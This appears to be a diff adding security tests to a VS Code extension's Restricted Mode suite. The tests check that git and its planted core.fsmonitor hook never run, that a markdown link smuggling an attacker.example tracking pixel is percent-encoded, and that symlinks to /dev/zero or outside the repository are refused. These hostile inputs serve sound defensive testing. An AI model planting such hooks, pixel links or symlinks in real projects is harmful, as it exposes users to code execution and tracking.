@@ -1,6 +1,12 @@
 import * as assert from 'assert';
 import * as vscode from 'vscode';
 import { api, file, treeRows, waitFor } from '../helpers';
+import { componentCard, outcomeLine } from '../../../src/vscode/markdown';
+import { readAliases } from '../../../src/vscode/tsconfigAliases';
+import { readWorkspaceFile, writeWorkspaceFile } from '../../../src/vscode/workspaceRead';
+import * as fs from 'fs';
+import * as os from 'os';
+import * as path from 'path';
 
 // The sample repository (git remote acme/shop, fake GitHub at the user-level apiUrl) opened in
 // Restricted Mode: the extension reads, says where the user looks why the rest is off, and sends nothing.
@@ -9,6 +15,23 @@ describe('Restricted Mode', function () {
 
   it('opens untrusted (the premise of this suite)', () => {
     assert.strictEqual(vscode.workspace.isTrusted, false);
+  });
+
+  it('lists the files by walking the disk: git is never started, so the repository\'s core.fsmonitor never runs', async () => {
+    const a = await api();
+    await a.timings.filesListed;
+    const state = a.ctx.store.states()[0];
+    // The harness set core.fsmonitor in this repository's .git/config (a program any git that reads the index starts).
+    const config = new TextDecoder().decode(await vscode.workspace.fs.readFile(file('.git/config')));
+    assert.match(config, /fsmonitor = "touch \.git\/fsmonitor-ran/);
+    assert.strictEqual(state.files.source, 'walk');
+    assert.ok(state.files.has('OWNERS.yaml'));
+    assert.ok(!state.files.all().some(f => f.startsWith('.git/')));
+    // A file created now goes through the watcher's path (git check-ignore when trusted), which must not start git either.
+    await vscode.workspace.fs.writeFile(file('web/created-in-restricted-mode.ts'), new TextEncoder().encode('export {};\n'));
+    await waitFor('the created file to be listed', () => state.files.has('web/created-in-restricted-mode.ts'), 10000);
+    await assert.rejects(Promise.resolve(vscode.workspace.fs.stat(file('.git/fsmonitor-ran'))), 'git ran in Restricted Mode: the fsmonitor marker exists');
+    await vscode.workspace.fs.delete(file('web/created-in-restricted-mode.ts'));
   });
 
   it('says at the top of the view and in the status row why handoff and refresh are off', async () => {
@@ -52,5 +75,46 @@ describe('Restricted Mode', function () {
     assert.strictEqual(outcome?.kind, 'refused');
     assert.match(outcome?.reason ?? '', /not trusted/);
     assert.strictEqual(new TextDecoder().decode(await vscode.workspace.fs.readFile(owners)), before);
+  });
+
+  it('an outcome link cannot smuggle an image into a tooltip or hover card (issue 18): ( ) ! [ ] are percent-encoded', async () => {
+    const a = await api();
+    const state = a.ctx.store.states()[0];
+    const pixel = 'https://dashboards.example/x)![](http://attacker.example/pixel.png?who=victim';
+    const outcome = { id: 'conv', name: 'Checkout conversion', link: pixel } as Parameters<typeof outcomeLine>[0];
+    const line = outcomeLine(outcome).value;
+    assert.strictEqual(line, '[Checkout conversion](https://dashboards.example/x%29%21%5B%5D%28http://attacker.example/pixel.png?who=victim)');
+    const component = [...state.model.components.values()][0];
+    const model = { ...state.model, outcomes: new Map([['conv', outcome]]) } as typeof state.model;
+    const card = componentCard(model, { ...component, outcomes: ['conv'] }).value;
+    assert.ok(card.includes('(https://dashboards.example/x%29%21%5B%5D%28http://attacker.example/pixel.png?who=victim)'), card);
+    assert.ok(!card.includes('![]'), card);
+  });
+
+  it('reads OWNERS.yaml and tsconfig.json only as regular files inside the repository: a link to /dev/zero or outside is refused at once (issue 18)', async function () {
+    if (process.platform === 'win32') this.skip();
+    const base = fs.mkdtempSync(path.join(os.tmpdir(), 'ol-editor-links-'));
+    try {
+      const repo = path.join(base, 'repo');
+      fs.mkdirSync(repo);
+      fs.writeFileSync(path.join(base, 'secret'), 'version: 1\n');
+      fs.symlinkSync('/dev/zero', path.join(repo, 'OWNERS.yaml'));
+      fs.symlinkSync('/dev/zero', path.join(repo, 'tsconfig.json'));
+      fs.symlinkSync(path.join(base, 'secret'), path.join(repo, 'outside.yaml'));
+      const root = vscode.Uri.file(repo);
+      const t0 = Date.now();
+      assert.strictEqual((await readWorkspaceFile(vscode.Uri.file(path.join(repo, 'OWNERS.yaml')), root, 10 << 20)).kind, 'refused');
+      assert.strictEqual(await readAliases(root, root), undefined);
+      assert.ok(Date.now() - t0 < 20_000);
+      const outside = await readWorkspaceFile(vscode.Uri.file(path.join(repo, 'outside.yaml')), root, 10 << 20);
+      assert.strictEqual(outside.kind, 'refused');
+      // "Create OWNERS.yaml" writes through writeWorkspaceFile: never through a (dangling) link
+      fs.rmSync(path.join(repo, 'OWNERS.yaml'));
+      fs.symlinkSync(path.join(base, 'created-outside'), path.join(repo, 'OWNERS.yaml'));
+      await assert.rejects(writeWorkspaceFile(vscode.Uri.file(path.join(repo, 'OWNERS.yaml')), root, new TextEncoder().encode('version: 1\n')), /symbolic link/);
+      assert.ok(!fs.existsSync(path.join(base, 'created-outside')));
+    } finally {
+      fs.rmSync(base, { recursive: true, force: true });
+    }
   });
 });
